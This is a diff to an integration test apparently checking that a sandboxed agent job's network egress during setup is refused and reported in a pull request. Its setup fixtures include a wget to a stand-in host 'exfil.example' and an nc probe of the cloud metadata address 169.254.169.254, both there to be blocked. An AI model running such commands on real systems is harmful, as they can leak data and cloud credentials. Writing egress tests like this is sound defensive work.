@@ -54,10 +54,15 @@ beforeAll(async () => {
     `wget -q -O- http://localhost:${standIn.httpPort}/__echo | grep -q __echo && echo fetched`,
     'wget -q -O- http://exfil.example/ >/dev/null 2>&1; nc -w 3 169.254.169.254 80 </dev/null; true',
   ];
-  // busybox has no node: the test is a grep that passes once add adds.
-  const config = YAML.stringify({ setup, test: "grep -q 'a + b' math.js" });
+  // busybox has no node: the test is a script's grep that passes once add adds (a test command that names the
+  // source file itself would be one the verdict refuses: the change would edit what the test command runs).
+  const config = YAML.stringify({ setup, test: 'sh test/adds.sh' });
   const root = tempDir('pw-docker-egress-job-');
-  makeRemoteRepo(root, 'boxed', { ...nodeBuggy, '.github/agent.yml': config });
+  makeRemoteRepo(root, 'boxed', {
+    ...nodeBuggy,
+    'test/adds.sh': 'grep -q \'a + b\' "$(dirname "$0")/../math.js"\n',
+    '.github/agent.yml': config,
+  });
   git = await startGitServer(root, TOKEN);
   github = await startGithubFake({ token: TOKEN, files: { '.github/agent.yml': config } });
   model = await startScriptedModel(
@@ -106,7 +111,8 @@ describe.runIf(canRun)('a job in the docker backend whose setup uses the network
     expect(done!.evidence.egressRefused?.map((r) => `${r.host}:${r.port} ${r.phase}`)).toEqual([
       'exfil.example:80 setup',
     ]);
-    expect(github.pulls[0]!.body).toContain('- `exfil.example:80` during setup: not on the allow-list');
+    // Setup ran twice (the run's own, and the clean checkout's for the verdict): how often is said.
+    expect(github.pulls[0]!.body).toMatch(/^- `exfil\.example:80` during setup(, \d+ times)?: not on the allow-list$/m);
     expect(podman('ps', '--all', '--filter', `ancestor=${IMAGE}`, '--format', '{{.Names}}').trim()).toBe('');
   });
 });
